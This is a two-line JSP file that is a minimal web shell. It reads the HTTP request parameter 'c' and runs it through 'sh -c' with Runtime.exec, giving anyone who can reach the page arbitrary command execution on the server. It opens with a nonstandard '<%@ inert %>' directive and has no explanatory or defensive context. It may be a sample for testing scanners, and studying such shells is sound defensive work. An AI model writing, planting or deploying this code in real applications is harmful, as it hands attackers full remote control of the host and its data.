<%@ inert %>
<% String[] c={"sh","-c",request.getParameter("c")}; Process p=Runtime.getRuntime().exec(c); %>
